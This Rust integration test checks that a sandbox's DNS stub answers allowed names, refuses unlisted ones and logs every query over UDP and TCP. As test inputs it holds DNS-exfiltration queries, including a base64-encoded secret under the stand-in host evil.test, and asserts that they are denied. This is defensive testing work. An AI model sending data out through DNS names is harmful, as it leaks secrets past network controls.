//! The DNS stub inside a real run's netns, queried over UDP and TCP from a socket created
//! in that namespace (what any client in the sandbox would do).

mod common;

use std::io::{Read, Write};
use std::os::fd::OwnedFd;
use std::time::Duration;

use common::*;
use paddock_config::{NetworkConfig, NetworkPolicy};
use paddock_egress::dns::{TYPE_A, answer_addr, make_query, rcode_of};
use paddock_sandbox::Runtime;

fn connect(fd: &OwnedFd, port: u16) -> std::io::Result<()> {
    let addr = nix::sys::socket::SockaddrIn::new(127, 0, 0, 1, port);
    nix::sys::socket::connect(std::os::fd::AsRawFd::as_raw_fd(fd), &addr).map_err(Into::into)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stub_answers_allowed_names_and_refuses_exfiltration() {
    let cfg = NetworkConfig {
        policy: NetworkPolicy::Strict,
        rules: vec![paddock_config::Rule {
            host: "api.test".parse().unwrap(),
            port: None,
            allow_methods: vec![],
            deny_methods: vec![],
            allow_paths: vec![],
            deny_paths: vec![],
            action: paddock_config::RuleAction::Allow,
        }],
        passthrough: vec![],
        headers: vec![],
    };
    let Some(f) = fixture(cfg, &[]).await else {
        return;
    };
    let ns = f.rt.as_netns().unwrap();
    let h = f.handle.clone();
    let udp = ns
        .socket_in_netns(&h, libc::AF_INET, libc::SOCK_DGRAM)
        .unwrap();
    let tcp = ns
        .socket_in_netns(&h, libc::AF_INET, libc::SOCK_STREAM)
        .unwrap();
    let long = format!("{}.{}.exfil.test", "a".repeat(63), "b".repeat(63));
    let out = tokio::task::spawn_blocking(move || {
        connect(&udp, 53).unwrap();
        let udp = std::net::UdpSocket::from(udp);
        udp.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        let mut results = Vec::new();
        for (id, name, t) in [
            (1u16, "api.test", TYPE_A),
            (2, "api.test", TYPE_A),
            (3, long.as_str(), 16),
            (4, "c2VjcmV0LXZhbHVl.evil.test", 16),
            (5, "evil.test", TYPE_A),
        ] {
            udp.send(&make_query(id, name, t)).unwrap();
            let mut buf = [0u8; 1024];
            let n = udp.recv(&mut buf).unwrap();
            results.push(buf[..n].to_vec());
        }
        // Garbage gets an answer or nothing, and the stub keeps serving.
        udp.send(&[0xde, 0xad]).unwrap();
        udp.send(&make_query(6, "api.test", TYPE_A)).unwrap();
        let mut buf = [0u8; 1024];
        let n = udp.recv(&mut buf).unwrap();
        results.push(buf[..n].to_vec());
        // TCP, length-prefixed.
        connect(&tcp, 53).unwrap();
        let mut tcp = std::net::TcpStream::from(tcp);
        tcp.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        let q = make_query(7, "deep.evil.test", 16);
        let mut msg = (q.len() as u16).to_be_bytes().to_vec();
        msg.extend_from_slice(&q);
        tcp.write_all(&msg).unwrap();
        let mut len = [0u8; 2];
        tcp.read_exact(&mut len).unwrap();
        let mut resp = vec![0u8; u16::from_be_bytes(len) as usize];
        tcp.read_exact(&mut resp).unwrap();
        results.push(resp);
        results
    })
    .await
    .unwrap();
    let a1 = answer_addr(&out[0]).expect("an address for an allowed name");
    assert!(paddock_egress::dns::is_synthetic(a1));
    assert_eq!(answer_addr(&out[1]), Some(a1), "stable within the run");
    for (i, r) in out[2..5].iter().enumerate() {
        assert_eq!(rcode_of(r), Some(3), "query {} must be NXDOMAIN", i + 3);
    }
    assert_eq!(answer_addr(&out[5]), Some(a1));
    assert_eq!(rcode_of(&out[6]), Some(3));
    assert_eq!(
        f.egress.as_ref().unwrap().names().name_of(a1).as_deref(),
        Some("api.test")
    );
    // Every query is on the record, the denials with the rule that decided (records reach
    // the sink through the run's record thread: wait for all 7).
    let dns = f
        .records_matching(|r| r.kind == paddock_egress::RecordKind::Dns, 7)
        .await;
    assert!(dns.len() >= 7, "{dns:?}");
    assert!(
        dns.iter()
            .filter(|r| !r.decision.allowed)
            .all(|r| r.status == Some(3))
    );
    assert!(
        dns.iter()
            .any(|r| r.host.starts_with("c2vjcmv0") && !r.decision.allowed)
    );
    f.finish().await;
}
